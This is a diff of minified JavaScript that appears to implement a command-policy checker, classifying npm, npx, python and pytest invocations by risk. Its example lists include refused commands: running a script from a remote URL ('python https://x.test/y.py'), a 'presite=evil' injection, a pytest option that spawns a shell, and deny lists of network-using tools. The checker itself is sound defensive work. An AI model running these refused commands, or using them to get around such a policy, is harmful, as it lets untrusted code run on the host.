-side-code";if(t.split(",").some(s=>/^\.|\.[cm]?[jt]sx?$/.test(s)))return e?"outside-code":"tool-runs-file"}function RA(t,e){
-return Kf.has(t)||wO.has(t)?"tool-runs-file":e?"outside-code":mh(t,e)??"tool-runs-file"}function NA(t){return t.split(",").
-filter(n=>n!==""&&!Un(n)).map(n=>n.replace(/^<rootDir>\//,"./"))}function FA(t,e,n,s){return/^\.{1,2}(?:\/|$)|\.[cm]?[jt]sx?$/.
-test(t)?{as:"code",path:t,span:e}:{as:"module",path:t,span:e,ifFile:n,first:s==="preload"}}function Ma(t){const e=t.replaceAll(
-".","/");return["","src/"].flatMap(n=>[".py","/__main__.py","/__init__.py"].map(s=>`${n}${e}${s}`))}function LA(t){const[
-,e="",n=""]=/^(\w+)[=:](.*)$/s.exec(t)??[];return e!==""&&ei(e,n)}function PA(t,e){return/^(?:_?mocha|deno)$/.test(t)?e.
-split(",").map(n=>n.startsWith("-")?n:`--${n}`):t==="ava"?ln(e).words.map(({text:n})=>n):[e]}const gh="x.js";function Ch({
-span:t},e){const n=[...e,gh,gh].map(i=>({text:i,span:t,quoted:!1})),{invocation:s,problems:r}=Xf(n);return{problems:r,nodeFlags:s.
-flags}}function jA(t,{stops:e,handsOn:n,data:s={}},{word:r,value:i=""}){const o=a=>({problems:[Xe(a,t,r)]});if(n){const a=r.
-text.includes("=")||i===""?[]:[i],c=Ch(r,[r.text,...a]);if(!c.problems.some(({rule:l})=>l==="unknown-flag"))return c}return e?
-o("unknown-flag"):s.starts==="npm-scripts"&&r.text.includes("=")?Pa:Jn(i)||ai(i)?o("outside-code"):s.unknown?Pa:o("unkno\
-wn-flag")}function MA(t,e,n){const[s]=n;if(s===void 0)return[];const r=n.find(({text:o})=>e.readsBehind&&yh(e,o)!==void 0);
-return(e.data.variables?n:[r??s]).flatMap(o=>{const a=yh(e,o.text);return a===void 0?[]:[Xe(a,t,o)]})}function yh({refused:t,
-data:e},n){const s=e.ends_with?.split(" ");if(s?.includes(n))return;const r=o=>fa(t,fs(o))?.kind,i=n.split(":").some(o=>r(
-o)==="never-ends");return r(n)??(s||i?"never-ends":void 0)}function GA(t,{places:e,data:{variables:n}},s){return s.flatMap(
-(r,i)=>{const o=e[Math.min(i,e.length-1)]?.kind??"path",a=n===void 0?[]:ZA(t,n,r);if(a.length>0)return a;const c=Ga(o,r.
-text);return c===void 0?[]:[Xe(c,t,r)]})}function Ga(t,e){if(/^(?:[A-Za-z][\w+.-]*:\/\/|(?:npm|jsr|data|file):)/.test(e))
-return t==="text"&&HA.test(e)?void 0:"uses-network";switch(t){case"import":return e.includes("@")?"uses-network":xe(e)===
-void 0?"outside-code":void 0;case"text":return e==="-"?"reads-stdin":Jn(e)||ai(e)?"outside-code":void 0;case"path":case"\
-tests":{if(e==="-")return"reads-stdin";if(e.startsWith("@"))return"outside-code";const n=e.replace(/^!|::.*$/gs,"");return xe(
-n)===void 0||Jn(e)?"outside-code":void 0}default:return Bs[t](e)===void 0?void 0:"outside-code"}}const HA=/^[a-z][\w+.-]*:\/\/(?:localhost|127\.0\.0\.1|\[::1\])(?:[:/]|$)/i;
-function zA({places:t,data:e},n){const s=t[0]?.kind;return n.flatMap(({text:r,span:i})=>{if(Ga(s??"path",r)!==void 0)return[];
+evolver:fA.optional().describe("For the default profile, which accepts the program if `programs` names it."),sandbox:lA.
+optional().describe("For the `curated` and `workspace` profiles. Default: neither accepts the program.")});function uh(t,e=Da){
+const{flags:n,operands:s}=lh(Xf,t,Qf),[r,...i]=s,o=r&&eh.get(r.text),a=o?.kind==="runs-tool",c=dh("npm",n,t,a),l={program:"\
+npm",flags:c.flags};if(r===void 0){const f=Bh(n)?[]:[Fa("npm",t)];return{invocation:{...l,operands:[],passthrough:[]},problems:[
+...c.problems,...f]}}if(o===void 0){const f=[...eh].find(([g])=>g.startsWith(r.text))?.[1].name??"",h={program:"npm",subcommand:r.
+text,meant:f},m=[be("unknown-subcommand",r.span,h),...c.problems];return{invocation:{...l,operands:i,passthrough:[]},problems:m}}
+const u={...l,subcommand:o.name},{invocation:d,problems:B}=CA(o,{word:r,rest:i},u,e);return{invocation:d,problems:[...B,
+...c.problems]}}const pA=new Map([...Qf,["--no-install","--no-yes"],["-p","--package"]]);function mA(t,e=Da){const{flags:n,
+operands:s}=lh({...Xf,stops:!0},t,pA),r=dh("npx",n,t,!0),i={program:"npx",subcommand:"exec",flags:r.flags},[o]=s;if(o===
+void 0){const{subcommand:h,...m}=i,g=Bh(n)?[]:[Fa("npx",t)];return{invocation:{...m,operands:[],passthrough:[]},problems:[
+...r.problems,...g]}}const a=t[t.indexOf(o)-1],c=s.slice(1).find(({text:h})=>h.startsWith("-")),d=/^--no(?!-install$)/.test(
+a?.text??"")&&c!==void 0&&a?[be("flag-value",a.span,{program:"npx",flag:a.text,fault:"npx takes the next word for its va\
+lue"})]:[],{invocation:B,problems:f}=fh(s,i,e);return{invocation:B,problems:[...f,...r.problems,...d]}}function lh(t,e,n){
+const s=new Map;for(const c of e){const l=n.get(c.text);s.set(l===void 0?c:{...c,text:l},c)}const{flags:r,operands:i,started:o}=Jn(
+t,[...s.keys()]),a=t.stops?o:i;return{flags:r,operands:a.map(c=>s.get(c)??c)}}function dh(t,e,n,s){const r=e.map(i=>{const{
+word:o,value:a,flag:c}=i,l=n.findIndex(({span:y})=>y.start===o.span.start),u=(n[l]?.text??"").replace(/(?<=^--[^=]*)=.*/s,
+""),[,d,B]=/^--(no-)?(.*)$/s.exec(c?.name??u)??[],f=d!==void 0,h={name:`--${B??u}`,written:u,span:o.span,...a!==void 0&&
+c&&{value:a},...f&&{negated:f}};if(c===void 0)return{flag:h,problems:[gA(t,h,n[l+1],s)]};const m=/^(?:true|false|null|always)$/.
+test(n[l+1]?.text??""),g=c.arity==="value"?qf(a,!1):m?"npm reads the next word as its value":void 0;if(g!==void 0)return{
+flag:h,problems:[be("flag-value",o.span,{program:"npm",flag:u,fault:g})]};const C=ui(c.kind)?c.kind:s&&NO.has(c.name)?"o\
+utside-code":void 0;return{flag:h,problems:C?[ri(C,t,h)]:[]}});return{flags:r.map(({flag:i})=>i),problems:r.flatMap(({problems:i})=>i)}}
+function gA(t,e,n,s){const r=ri("unknown-flag",t,e),i=!s&&RO.has(e.written),o=n!==void 0&&!n.text.startsWith("-");return i&&
+!o?{...r,severity:"warning"}:r}function Bh(t){return t.some(({flag:e})=>e?.kind==="only-prints"||e?.kind==="outside-code")}
+function CA({name:t,kind:e},n,s,r){if(e==="runs-script")return yA(t,n,s);if(e!=="runs-tool")return{invocation:{...s,operands:n.
+rest,passthrough:[]},problems:[Xe(e,s.program,{text:t,span:n.word.span})]};if(n.rest.length>0)return fh(n.rest,s,r);const o=s.
+flags.some(({name:a})=>a==="--call")?[]:[Fa(s.program,[n.word])];return{invocation:{...s,operands:[],passthrough:[]},problems:o}}
+function yA(t,{word:e,rest:n},s){const r=t==="run"?n.slice(0,1):[e],i=t==="run"?n.slice(1):n,[o]=r,a=[];o===void 0?a.push(
+ii("npm",{...e,text:"run"})):o.text==="env"&&a.push({...ii("npm",{...o,text:"run env"}),severity:"error"});const c=Vf(i);
+return c!==void 0&&a.push(ii("npm",c)),{invocation:{...s,operands:r,passthrough:i},problems:a}}function fh([t,...e],n,s){
+const r={...n,operands:t?[t]:[],passthrough:e};if(t===void 0)return{invocation:r,problems:[]};if(!Ws(t.text))return{invocation:r,
+problems:[Xe("uses-network",n.program,t)]};const{problems:i,...o}=s.tool(t,e);return{invocation:{...r,...o},problems:i}}
+function Fa(t,e){const n=e[0]?.span.start??0,s=e.at(-1)?.span.end??0;return be("nothing-to-run",{start:n,end:s},{program:t})}
+const La={problems:[]};function li(t,e,n){const{word:s,flag:r,value:i="",written:o,off:a}=n;if(r===void 0)return SA(t,e,
+n);const c=h=>Pa(h,t,n),{choices:l}=r;if(l?.every(h=>!wA(h,i.replace(/\s+/g,""))))return{problems:[c("unknown-flag")]};if(a)
+return La;if(r.kind==="node")return mh(s,AA(t,i));const{rule:u,...d}=ui(r.kind)?{rule:r.kind}:bA(t,n,e.stops===!0),B=Un(
+o)||oi(o),f=u??(B?"outside-code":void 0);return{...i===""?{}:d,problems:f?[c(f)]:[]}}function wA(t,e){const[n="",s]=t.split(
+"~");if(s===void 0)return e===t;const r=e.slice(n.length,e.length-s.length);return/^[^"'\\{}<>\s]+$/.test(r)&&e===`${n}${r}${s}`}
+function Pa(t,e,{word:{text:n,span:s},written:r,value:i=""}){const o=n===r&&i!==""?`${r} ${i}`:n;return ri(t,e,{name:r,written:o,
+span:s,value:i})}function bA(t,e,n){const{word:s,flag:r,written:i,value:o=""}=e,{span:a}=s,c=r?.kind??"text";switch(c){case"\
+choice":return{};case"tests":return{files:[{as:"tests",path:o,span:a}]};case"path":{const l=xe(o)===void 0?"outside-code":
+void 0,u=zn(o)?[]:[{as:"place",path:o,span:a}];return{rule:l,files:u,root:o}}case"config":return zn(o)?{rule:"outside-co\
+de"}:/^[\w.-]+ *=/.test(o)?{}:{files:[{as:"config",path:o,span:a}]};case"output":{const l=o.slice(o.lastIndexOf("=")+1);
+return/^(?:-?|stdout|stderr|\/dev\/null)$/.test(l)?{}:zn(l)?{rule:"writes-files"}:{rule:"tool-writes",files:[{as:"place",
+path:l,span:a}]}}case"code":case"preload":{const l=c==="code"?hh(o,n):vA(o,n),u=Pa("tool-runs-file",t,e);return{rule:l,files:DA(
+o).map(d=>xA(d,a,u,c))}}case"module":{const l=o.split(":").filter(f=>/^\w+(?:\.\w+)*$/.test(f)),u=new Set(l.flatMap(f=>[
+f,f.replace(/\.\w+$/,"")]).flatMap(ja)),d=Pa("tool-runs-file",t,e);return{rule:Un(o)||/[\\/]/.test(o)?"outside-code":void 0,
+files:[...u].map(f=>({as:"module",path:f,span:a,ifFile:d}))}}default:{const l=oi(o)&&!kA(i,o),u=!ui(c)&&Bs[c](o)!==void 0;
+return{rule:Un(o)||l||_A.test(o)||u?"outside-code":void 0}}}}const _A=/[[{](?:.*["'[{:,\s])?\.{1,2}\/(?![^"'\s,\]}]*\.json\b)/s,
+EA=/(?:patterns?|ignore|exclude|grep|filter|deselect)$|^-[gk]$|^--(?:allow|deny)-(?:read|write)$/i;function kA(t,e){return EA.
+test(t)||t==="-t"&&!e.includes(":")}function hh(t,e){if(zn(t)||/[\s(){};]/.test(t))return"outside-code";if(t.split(",").
+some(s=>/^\.|\.[cm]?[jt]sx?$/.test(s)))return e?"outside-code":"tool-runs-file"}function vA(t,e){return Kf.has(t)||gO.has(
+t)?"tool-runs-file":e?"outside-code":hh(t,e)??"tool-runs-file"}function DA(t){return t.split(",").filter(n=>n!==""&&!zn(
+n)).map(n=>n.replace(/^<rootDir>\//,"./"))}function xA(t,e,n,s){return/^\.{1,2}(?:\/|$)|\.[cm]?[jt]sx?$/.test(t)?{as:"co\
+de",path:t,span:e}:{as:"module",path:t,span:e,ifFile:n,first:s==="preload"}}function ja(t){const e=t.replaceAll(".","/");
+return["","src/"].flatMap(n=>[".py","/__main__.py","/__init__.py"].map(s=>`${n}${e}${s}`))}function OA(t){const[,e="",n=""]=/^(\w+)[=:](.*)$/s.
+exec(t)??[];return e!==""&&Qr(e,n)}function AA(t,e){return/^(?:_?mocha|deno)$/.test(t)?e.split(",").map(n=>n.startsWith(
+"-")?n:`--${n}`):t==="ava"?ln(e).words.map(({text:n})=>n):[e]}const ph="x.js";function mh({span:t},e){const n=[...e,ph,ph].
+map(i=>({text:i,span:t,quoted:!1})),{invocation:s,problems:r}=Yf(n);return{problems:r,nodeFlags:s.flags}}function SA(t,{
+stops:e,handsOn:n,data:s={}},{word:r,value:i=""}){const o=a=>({problems:[Xe(a,t,r)]});if(n){const a=r.text.includes("=")||
+i===""?[]:[i],c=mh(r,[r.text,...a]);if(!c.problems.some(({rule:l})=>l==="unknown-flag"))return c}return e?o("unknown-fla\
+g"):s.starts==="npm-scripts"&&r.text.includes("=")?La:Un(i)||oi(i)?o("outside-code"):s.unknown?La:o("unknown-flag")}function TA(t,e,n){
+const[s]=n;if(s===void 0)return[];const r=n.find(({text:o})=>e.readsBehind&&gh(e,o)!==void 0);return(e.data.variables?n:
+[r??s]).flatMap(o=>{const a=gh(e,o.text);return a===void 0?[]:[Xe(a,t,o)]})}function gh({refused:t,data:e},n){const s=e.
+ends_with?.split(" ");if(s?.includes(n))return;const r=o=>fa(t,fs(o))?.kind,i=n.split(":").some(o=>r(o)==="never-ends");
+return r(n)??(s||i?"never-ends":void 0)}function IA(t,{places:e,data:{variables:n}},s){return s.flatMap((r,i)=>{const o=e[Math.
+min(i,e.length-1)]?.kind??"path",a=n===void 0?[]:LA(t,n,r);if(a.length>0)return a;const c=Ma(o,r.text);return c===void 0?
+[]:[Xe(c,t,r)]})}function Ma(t,e){if(/^(?:[A-Za-z][\w+.-]*:\/\/|(?:npm|jsr|data|file):)/.test(e))return t==="text"&&$A.test(
+e)?void 0:"uses-network";switch(t){case"import":return e.includes("@")?"uses-network":xe(e)===void 0?"outside-code":void 0;case"\
+text":return e==="-"?"reads-stdin":Un(e)||oi(e)?"outside-code":void 0;case"path":case"tests":{if(e==="-")return"reads-st\
+din";if(e.startsWith("@"))return"outside-code";const n=e.replace(/^!|::.*$/gs,"");return xe(n)===void 0||Un(e)?"outside-\
+code":void 0}default:return Bs[t](e)===void 0?void 0:"outside-code"}}const $A=/^[a-z][\w+.-]*:\/\/(?:localhost|127\.0\.0\.1|\[::1\])(?:[:/]|$)/i;
+function NA({places:t,data:e},n){const s=t[0]?.kind;return n.flatMap(({text:r,span:i})=>{if(Ma(s??"path",r)!==void 0)return[];
 const o=(s==="import"||e.starts==="package")&&r.endsWith(".go");if(s==="tests"||o)return[{as:"tests",path:r.replace(/^!|::.*$|:[\d,*-]+$/gs,
-""),span:i}];const a=xe(r);return a&&!xt(a,".git",{ignoreCase:!0})&&!Un(r)?[{as:"place",path:r,span:i}]:[]})}const UA=/^[\w.-]+ *(?:\+|\?|:{1,3})?=(?!-)[\w.,:/@%+=-]*$/,
-JA=/[$`;&|<>(){}\s]/;function ZA(t,e,n){const{text:s,span:r}=n,i=s.includes("="),o=s.replace(/\s*[:+?!]*=.*$/s,"");return i&&
-!e.includes(o)?[be("make-variable",r,{program:t,variable:o})]:(i?UA.test(s):!JA.test(s))?[]:[Xe("outside-code",t,n)]}function KA(t,{
+""),span:i}];const a=xe(r);return a&&!xt(a,".git",{ignoreCase:!0})&&!zn(r)?[{as:"place",path:r,span:i}]:[]})}const RA=/^[\w.-]+ *(?:\+|\?|:{1,3})?=(?!-)[\w.,:/@%+=-]*$/,
+FA=/[$`;&|<>(){}\s]/;function LA(t,e,n){const{text:s,span:r}=n,i=s.includes("="),o=s.replace(/\s*[:+?!]*=.*$/s,"");return i&&
+!e.includes(o)?[be("make-variable",r,{program:t,variable:o})]:(i?RA.test(s):!FA.test(s))?[]:[Xe("outside-code",t,n)]}function PA(t,{
 program:e,words:n,parsing:s},{flags:r,operands:i}){const o=r.some(({flag:l})=>l?.kind==="only-prints"||l?.kind==="outsid\
 e-code"),a=l=>s.start(l,e),c=(()=>{switch(t){case"node":return o?[]:[a({program:"node",words:i})];case"command":return o?
-[]:[WA(e,n,i,a)];case"command-texts":return i.map(l=>VA(e,l,a));case"npm-scripts":{const l=r.flatMap(({flag:u,word:d})=>u===
-void 0?[d]:[]);return i.map(u=>YA(e,u,l,a))}default:return[]}})();return{invocation:{launched:c.flatMap(l=>l.launched)},
-problems:c.flatMap(l=>l.problems)}}function WA(t,e,n,s){const{words:r,problems:i}=t==="cross-env"?qA(n):{words:n,problems:[]},
+[]:[jA(e,n,i,a)];case"command-texts":return i.map(l=>GA(e,l,a));case"npm-scripts":{const l=r.flatMap(({flag:u,word:d})=>u===
+void 0?[d]:[]);return i.map(u=>HA(e,u,l,a))}default:return[]}})();return{invocation:{launched:c.flatMap(l=>l.launched)},
+problems:c.flatMap(l=>l.problems)}}function jA(t,e,n,s){const{words:r,problems:i}=t==="cross-env"?MA(n):{words:n,problems:[]},
 [o]=r,a=o&&e.find(({text:d})=>d===o.text),c=`\`${t}\` starts at the first word that is \`${o?.text}\``,l=o===void 0||a===
 o?[]:[be("flag-value",o.span,{program:t,flag:o.text,fault:c})],u=s({words:r});return{...u,problems:[...i,...l,...u.problems]}}
-function qA(t){const e=t.findIndex(({text:r})=>!/^\w+=/.test(r)),n=e<0?t:t.slice(0,e),s=n.flatMap(({text:r,span:i})=>{if(LA(
+function MA(t){const e=t.findIndex(({text:r})=>!/^\w+=/.test(r)),n=e<0?t:t.slice(0,e),s=n.flatMap(({text:r,span:i})=>{if(OA(
 r))return[];const{written:o,attached:a=""}=va(r);return[be("assignment-refused",i,{name:o,value:a,known:!1})]});return{words:t.
-slice(n.length),problems:s}}function VA(t,{text:e,span:n},s){const[,r="",i=""]=/^npm(?::|\s+run\s+)(\S*\*\S*)(.*)$/s.exec(
+slice(n.length),problems:s}}function GA(t,{text:e,span:n},s){const[,r="",i=""]=/^npm(?::|\s+run\s+)(\S*\*\S*)(.*)$/s.exec(
 e)??[],{words:o,problems:a}=ln(r===""?e.replace(/^npm:(?=\S)/,"npm run "):i);if(!(_a({problems:a})||r!==""&&i.trim()==="")||
-!/^[\w:.@/*-]*$/.test(r))return bh(t,{text:e,span:n});const l=o.map(u=>({...u,span:n}));return s(r===""?{words:l}:wh([{text:r,
-span:n,quoted:!1},...l],"wildcard"))}function YA(t,{text:e,span:n},s,r){const[,i="",o=""]=/^\s*(\S+)(.*)$/s.exec(e)??[],
-{words:a,problems:c}=ln(o),l=o.trim()===""||_a({problems:c});if(i===""||!l||/\{!?[*@%\d]/.test(e))return bh(t,{text:e,span:n});
-const u=a.map(B=>({...B,span:n})),d=[...s,{text:i,span:n,quoted:!1},...u];return r(wh(d,/^[\w:.@/-]+$/.test(i)?void 0:"g\
-lob"))}function wh(t,e){return{program:"npm",words:[{text:"run",span:t.at(-1)?.span??{start:0,end:0},quoted:!1},...t],...e&&
-{selects:e}}}function bh(t,e){return{launched:[],problems:[Xe("outside-code",t,e)]}}const XA="conftest.py pytest.toml .p\
+!/^[\w:.@/*-]*$/.test(r))return yh(t,{text:e,span:n});const l=o.map(u=>({...u,span:n}));return s(r===""?{words:l}:Ch([{text:r,
+span:n,quoted:!1},...l],"wildcard"))}function HA(t,{text:e,span:n},s,r){const[,i="",o=""]=/^\s*(\S+)(.*)$/s.exec(e)??[],
+{words:a,problems:c}=ln(o),l=o.trim()===""||_a({problems:c});if(i===""||!l||/\{!?[*@%\d]/.test(e))return yh(t,{text:e,span:n});
+const u=a.map(B=>({...B,span:n})),d=[...s,{text:i,span:n,quoted:!1},...u];return r(Ch(d,/^[\w:.@/-]+$/.test(i)?void 0:"g\
+lob"))}function Ch(t,e){return{program:"npm",words:[{text:"run",span:t.at(-1)?.span??{start:0,end:0},quoted:!1},...t],...e&&
+{selects:e}}}function yh(t,e){return{launched:[],problems:[Xe("outside-code",t,e)]}}const zA="conftest.py pytest.toml .p\
 ytest.toml pytest.ini .pytest.ini pyproject.toml tox.ini setup.cfg setup.py sitecustomize.py usercustomize.py".split(" "),
-Ys=[{path:".venv",at:"anywhere"},{path:"venv",at:"anywhere"},{path:"__pypackages__",at:"root"},{path:".local/bin",at:"ho\
+qs=[{path:".venv",at:"anywhere"},{path:"venv",at:"anywhere"},{path:"__pypackages__",at:"root"},{path:".local/bin",at:"ho\
 me"},{path:".local/lib",at:"home"},{path:".pyenv",at:"home",variable:"PYENV_ROOT"}],di={PYTHONDONTWRITEBYTECODE:"1",PYTHONNOUSERSITE:"\
-0",PIP_NO_INDEX:"1",PIP_DISABLE_PIP_VERSION_CHECK:"1"},QA={programs:["python","python3"],starts:"file",extensions:"py",alone:"\
+0",PIP_NO_INDEX:"1",PIP_DISABLE_PIP_VERSION_CHECK:"1"},UA={programs:["python","python3"],starts:"file",extensions:"py",alone:"\
 reads-stdin",flags:{text:"b B d E I P q R s S u v W=",choice:"X=dev|utf8|utf8=1|importtime","outside-code":"x c+",weakens:"\
 O OO",module:"m+","reads-stdin":"i","only-prints":"help,h version,V help-all help-env help-xoptions ?"},started_programs:[
-"pytest","ruff","mypy"],build_files:["sitecustomize.py","usercustomize.py"],dependencies:Ys,environment:di,match:["pytho\
+"pytest","ruff","mypy"],build_files:["sitecustomize.py","usercustomize.py"],dependencies:qs,environment:di,match:["pytho\
 n3 scripts/check.py --strict","python -m pytest -q tests","python -B -W error scripts/check.py","python -X dev -Xutf8 -X\
  importtime scripts/check.py","python -m py_compile scripts/check.py"],not_match:['python -Ic "print(1)"',"python -","py\
 thon -m pip install x","python -X presite=evil scripts/check.py","python -Xfrozen_modules=off scripts/check.py","python \
-scripts/x.sh","python tool.pyz","python -m py_compile -","python -m py_compile ../x.py","python https://x.test/y.py"]},eS={
+scripts/x.sh","python tool.pyz","python -m py_compile -","python -m py_compile ../x.py","python https://x.test/y.py"]},JA={
 operands:"tests*",flags:{text:`
       assert= cache-show? capture= color= deselect= doctest-continue-on-failure doctest-glob= doctest-modules
       durations= durations-min= exitfirst,x failed-first,ff full-trace import-mode= k= l showlocals
@@ -4439,10 +4430,10 @@ operands:"tests*",flags:{text:`
     `,module:"p= ds= W,pythonwarnings=",path:"rootdir= confcutdir= cov-source=",config:"config-file,c= cov-config=",output:"\
 basetemp= junitxml= log-file= report-log= html= debug? benchmark-json= json-report-file=","reads-stdin":"pdb trace","onl\
 y-prints":"help,h version,V co,collect-only fixtures,funcargs fixtures-per-test markers setup-only setup-plan","tool-wri\
-tes":"cache-clear snapshot-update benchmark-save= benchmark-autosave",weakens:"suppress-no-test-exit-code"},build_files:XA,
-dependencies:Ys,environment:{...di,PYTEST_ADDOPTS:""},match:["pytest -q tests/test_a.py::test_b","pytest -p no:cacheprov\
+tes":"cache-clear snapshot-update benchmark-save= benchmark-autosave",weakens:"suppress-no-test-exit-code"},build_files:zA,
+dependencies:qs,environment:{...di,PYTEST_ADDOPTS:""},match:["pytest -q tests/test_a.py::test_b","pytest -p no:cacheprov\
 ider","pytest --cov=src --cov-report=term-missing"],not_match:["pytest -o addopts=-x","pytest --tx popen//python=sh","py\
-test --junitxml=../x.xml","pytest @args.txt"]},tS=new Set(`
+test --junitxml=../x.xml","pytest @args.txt"]},ZA=new Set(`
   __future__ __hello__ __phello__ _aix_support _collections_abc _compat_pickle _markupbase _osx_support
   _pydecimal _pyio _pyrepl _sitebuiltins _strptime _weakrefset abc aifc annotationlib antigravity argparse array
   ast asynchat asyncio asyncore atexit audioop base64 bdb binascii binhex bisect builtins bz2 cProfile calendar
@@ -4461,7 +4452,7 @@ test --junitxml=../x.xml","pytest @args.txt"]},tS=new Set(`
   termios textwrap this threading time timeit tkinter token tokenize tomllib trace traceback tracemalloc tty
   turtle turtledemo types typing unicodedata unittest urllib uu uuid venv warnings wave weakref webbrowser
   winreg winsound wsgiref xdrlib xml xmlrpc zipapp zipfile zipimport zlib zoneinfo
-  `.trim().split(/\s+/));function _h(t){return tS.has(t.replace(/\..*$/s,""))}const nS=pf({"uses-network":`
+  `.trim().split(/\s+/));function wh(t){return ZA.has(t.replace(/\..*$/s,""))}const KA=hf({"uses-network":`
     conda pip pre_commit virtualenv easy_install poetry pipx build setuptools cookiecutter copier twine
     semantic_release huggingface_hub
   `,"never-ends":`
@@ -4473,76 +4464,76 @@ test --junitxml=../x.xml","pytest @args.txt"]},tS=new Set(`
     line_profiler memory_profiler mprof nox papermill pdm pex pipenv ptvsd py_spy pydevd pyinstrument pyperf rye scalene\
 
     torch.distributed.launch torch.distributed.run tox uv viztracer
-  `}),sS=new Set("unittest json.tool tabnanny ast tokenize".split(" ")),rS=/^(?:-\w|--[\w-]+=)?[/~]/,Eh=un({flags:{text:`\
+  `}),WA=new Set("unittest json.tool tabnanny ast tokenize".split(" ")),qA=/^(?:-\w|--[\w-]+=)?[/~]/,bh=un({flags:{text:`\
 
       append,a branch concurrency= context= debug= include= L,pylib omit= parallel-mode,p save-signal= source=
       source-dirs= source-pkgs= timid
-    `,config:"rcfile=",output:"data-file=",module:"m,module+"},starts:"node"}),iS=un({flags:{text:"v,verbose o,option= f\
-,fail-fast"}}),oS=un({flags:{text:"q,quiet"}}),aS=new Map([["doctest",iS],["py_compile",oS]]);function cS({text:t,span:e}){
+    `,config:"rcfile=",output:"data-file=",module:"m,module+"},starts:"node"}),VA=un({flags:{text:"v,verbose o,option= f\
+,fail-fast"}}),YA=un({flags:{text:"q,quiet"}}),XA=new Map([["doctest",VA],["py_compile",YA]]);function QA({text:t,span:e}){
 const n=/^\w+(?:\.\w+)*$/.test(t)?t.split("."):[],s=n.map((i,o)=>n.slice(0,o+1).join("."));return(t.endsWith(".py")?[t]:
-s.flatMap(Ma)).map(i=>({as:"module",path:i,span:e}))}function uS({program:t,data:e},[n,...s],r){if(n===void 0)return{invocation:{},
+s.flatMap(ja)).map(i=>({as:"module",path:i,span:e}))}function eS({program:t,data:e},[n,...s],r){if(n===void 0)return{invocation:{},
 problems:[be("flag-value",{start:0,end:0},{program:t,flag:"-m",fault:"its value is missing"})]};const{known:i}=r.families,
 o=i.get(n.text);if(o!==void 0&&e.started_programs.includes(n.text)){const{launched:y,problems:b}=r.start({program:o,words:s},
 t);return{invocation:{module:n,launched:y},problems:b}}const a={module:n,operands:[n],passthrough:s},c=n.text==="unittes\
-t"?s.flatMap(cS):[],l={...a,files:c},u=(y,b=n.text)=>({invocation:l,problems:[Xe(y,t,{...n,text:b})]}),d=/^[\w.]+$/.test(
-n.text)?nS.get(n.text.replace(/\._(?:_main__|internal\b.*)$/,"")):"outside-code";if(d!==void 0)return u(d);const B=i.get(
-"python"),f=aS.get(n.text);if(f!==void 0&&B!==void 0){const y=n.text==="py_compile",b={...B,data:{...B.data,extensions:void 0}},
-{flags:D,operands:O}=ps(f,s),v=O.map($=>r.start({program:y?B:b,words:[$]},t)),I=v.flatMap($=>$.launched),_=y?u("checks-s\
+t"?s.flatMap(QA):[],l={...a,files:c},u=(y,b=n.text)=>({invocation:l,problems:[Xe(y,t,{...n,text:b})]}),d=/^[\w.]+$/.test(
+n.text)?KA.get(n.text.replace(/\._(?:_main__|internal\b.*)$/,"")):"outside-code";if(d!==void 0)return u(d);const B=i.get(
+"python"),f=XA.get(n.text);if(f!==void 0&&B!==void 0){const y=n.text==="py_compile",b={...B,data:{...B.data,extensions:void 0}},
+{flags:D,operands:O}=Jn(f,s),v=O.map($=>r.start({program:y?B:b,words:[$]},t)),I=v.flatMap($=>$.launched),_=y?u("checks-s\
 yntax-only","-m py_compile").problems:[];return{invocation:{...l,launched:I.map($=>({...$,...y&&{parsed:y}}))},problems:[
-...D.flatMap($=>li(n.text,f,$).problems),..._,...v.flatMap($=>$.problems)]}}const h=sS.has(n.text);if(!h&&_h(n.text))return u(
+...D.flatMap($=>li(n.text,f,$).problems),..._,...v.flatMap($=>$.problems)]}}const h=WA.has(n.text);if(!h&&wh(n.text))return u(
 "outside-code",`-m ${n.text}`);const[m,...g]=s;if(n.text==="coverage"&&m?.text==="run"&&B!==void 0){const{flags:y,started:b,
-rest:D}=ps(Eh,g),O=D?[{...D.flag.word,text:"-m"},...D.words]:b;if(O.length>0){const{launched:v,problems:I}=r.start({program:B,
-words:O},t),_=y.flatMap($=>li("coverage",Eh,$).problems);return{invocation:{...l,starts:"module",launched:v},problems:[..._,
-...I]}}}const C=s.filter(({text:y})=>Jn(y)||h&&rS.test(y));return{invocation:h?l:{...l,starts:"module"},problems:C.map(y=>Xe(
-"outside-code",n.text,y))}}function lS(t,e,n,s){const{program:r}=s.family,i={operands:[e],passthrough:n},o=()=>({invocation:i,
-problems:[Xe("outside-code",r,e)]});switch(t){case"file":return Ha(e,n,s);case"package":{const a=Ga("import",e.text),l=a===
+rest:D}=Jn(bh,g),O=D?[{...D.flag.word,text:"-m"},...D.words]:b;if(O.length>0){const{launched:v,problems:I}=r.start({program:B,
+words:O},t),_=y.flatMap($=>li("coverage",bh,$).problems);return{invocation:{...l,starts:"module",launched:v},problems:[..._,
+...I]}}}const C=s.filter(({text:y})=>Un(y)||h&&qA.test(y));return{invocation:h?l:{...l,starts:"module"},problems:C.map(y=>Xe(
+"outside-code",n.text,y))}}function tS(t,e,n,s){const{program:r}=s.family,i={operands:[e],passthrough:n},o=()=>({invocation:i,
+problems:[Xe("outside-code",r,e)]});switch(t){case"file":return Ga(e,n,s);case"package":{const a=Ma("import",e.text),l=a===
 void 0&&e.text.endsWith(".go")?[{as:"tests",path:e.text,span:e.span}]:[];return{invocation:{...i,files:l},problems:a?[Xe(
-a,r,e)]:[]}}case"program":return fS(e,n,s);case"script":case"own-script":{const a=dS.test(e.text)?o().problems:[];return{
-invocation:{...i,subcommand:"run"},problems:[...a,...vh(n,s.family)]}}case"tool":return Dh("exec",e,n,s);case"script-or-\
-tool":case"script-tool-or-file":{const a=t==="script-tool-or-file";if(BS.test(e.text)||a&&kh(e.text))return a?Ha(e,n,s):
-o();const c=Dh("script-or-tool",e,n,s);return{...c,problems:[...c.problems,...vh(n,s.family)]}}default:return o()}}const dS=/^\/|\*/,
-BS=/^-$|^\.{0,2}[\\/]|^~|[\\/].*\.\w+$|\.[cm]?[jt]sx?$/;function kh(t){return/[\\/]/.test(t)&&!/^@[\w.-]+\/[\w.-]+$/.test(
-t)}function vh(t,{program:e,use:n}){return t.filter(({text:r})=>{const i=/^--([\w-]+)/.exec(r)?.[1];return i!==void 0&&n.
-flags.get(fs(i))?.kind==="outside-code"}).map(r=>Xe("outside-code",e,r))}function Ha(t,e,n){const{family:s,parsing:r}=n,
+a,r,e)]:[]}}case"program":return rS(e,n,s);case"script":case"own-script":{const a=nS.test(e.text)?o().problems:[];return{
